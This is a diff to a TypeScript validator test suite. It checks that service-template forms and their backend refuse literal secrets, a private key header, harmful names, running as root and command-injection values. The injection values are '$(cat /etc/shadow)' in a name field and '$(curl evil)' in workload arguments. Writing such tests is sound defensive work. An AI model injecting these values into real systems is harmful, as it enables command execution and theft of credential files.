@@ -37,9 +37,17 @@ function problems(template: string, values: JsonObject): string[] {
   );
 }
 
+const compiled = Object.fromEntries(
+  Object.entries(all).map(([name, { spec }]) => [
+    name,
+    spec.parameters.map(page =>
+      new Ajv({ strict: false, allErrors: true }).compile(page),
+    ),
+  ]),
+);
+
 function problemsInBrowser(template: string, values: JsonObject): string[] {
-  return all[template].spec.parameters.flatMap(page => {
-    const check = new Ajv({ strict: false, allErrors: true }).compile(page);
+  return compiled[template].flatMap(check => {
     check(values);
     return (check.errors ?? []).map(error => JSON.stringify(error));
   });
@@ -63,10 +71,12 @@ it.each(Object.keys(all))('%s takes what a person may mean', template => {
 const HELM = 'new-service-helm-configs';
 const RAW = 'new-service-raw-manifests';
 
-function expectRefused(template: string, path: string, value: JsonValue) {
+/** Whether the form and the backend both refuse an answer. */
+function refused(template: string, path: string, value: JsonValue): boolean {
   const values = having(form[template], path, value);
-  expect(problems(template, values)).not.toEqual([]);
-  expect(problemsInBrowser(template, values)).not.toEqual([]);
+  return [problems, problemsInBrowser].every(
+    check => check(template, values).length > 0,
+  );
 }
 
 const KEY = `-----BEGIN RSA ${'PRIVATE'} KEY-----\nMIIEpAIB\n`;
@@ -117,12 +127,18 @@ describe('literal secrets in values', () => {
     'htpasswd',
   ])('%s: anywhere', key => {
     const typed = 'Tr0mbone-Staple-77';
-    expectRefused(HELM, 'values', { [key]: typed });
-    expectRefused(HELM, 'values', { deep: { in: [{ [key]: typed }] } });
-    expectRefused('new-service-wrapper-chart', 'values', {
-      lantern: { [key]: typed },
-    });
-    expectRefused('new-service-helm-inline', 'values', { a: { [key]: 4711 } });
+    expect(refused(HELM, 'values', { [key]: typed })).toBe(true);
+    expect(refused(HELM, 'values', { deep: { in: [{ [key]: typed }] } })).toBe(
+      true,
+    );
+    expect(
+      refused('new-service-wrapper-chart', 'values', {
+        lantern: { [key]: typed },
+      }),
+    ).toBe(true);
+    expect(
+      refused('new-service-helm-inline', 'values', { a: { [key]: 4711 } }),
+    ).toBe(true);
   });
 
   it.each<[string, JsonValue]>([
@@ -154,8 +170,10 @@ describe('literal secrets in values', () => {
     ['a bare key', { encryption: { key: 'Tr0mboneTr0mbone' } }],
     ['a command in a text', { name: '$(cat /etc/shadow)' }],
   ])('%s', (_, values) => {
-    expectRefused(HELM, 'values', values);
-    expectRefused('new-service-helm-inline', 'values', { deep: [values] });
+    expect(refused(HELM, 'values', values)).toBe(true);
+    expect(
+      refused('new-service-helm-inline', 'values', { deep: [values] }),
+    ).toBe(true);
   });
 
   it.each<[string, JsonObject]>([
@@ -232,7 +250,7 @@ describe('literal secrets elsewhere', () => {
     ['add-a-secret', 'keys', ['password: Tr0mbone']],
     ['add-a-secret', 'keys', { password: 'Tr0mbone' }],
   ])('%s %s', (template, path, value) => {
-    expectRefused(template, path, value);
+    expect(refused(template, path, value)).toBe(true);
   });
 });
 
@@ -274,10 +292,10 @@ describe('names and numbers that do harm', () => {
     { name: 'lantern' },
   ];
   it.each(names)('the name %j', name => {
-    expectRefused(HELM, 'name', name);
-    expectRefused('add-a-secret', 'app', name);
+    expect(refused(HELM, 'name', name)).toBe(true);
+    expect(refused('add-a-secret', 'app', name)).toBe(true);
     if (name !== 'a') {
-      expectRefused('add-a-secret', 'purpose', name);
+      expect(refused('add-a-secret', 'purpose', name)).toBe(true);
     }
   });
 
@@ -305,6 +323,6 @@ describe('names and numbers that do harm', () => {
     [RAW, 'workload.runAsUser', 0],
     [RAW, 'workload.args', ['$(curl evil)']],
   ])('%s %s %j', (template, path, value) => {
-    expectRefused(template, path, value);
+    expect(refused(template, path, value)).toBe(true);
   });
 });
